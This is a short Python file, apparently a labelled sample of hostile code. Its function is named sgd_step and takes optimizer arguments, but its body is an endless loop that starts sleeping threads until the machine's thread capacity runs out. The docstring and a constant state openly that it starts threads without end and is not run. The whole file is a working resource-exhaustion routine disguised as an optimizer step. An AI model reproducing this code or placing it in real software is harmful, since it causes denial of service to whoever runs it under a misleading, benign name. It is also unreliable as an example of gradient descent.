"""Starts threads without end."""

import threading
import time

STOCK = "not run: it would take all threads of the machine"


def sgd_step(w, g, *, lr, weight_decay=0.0):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
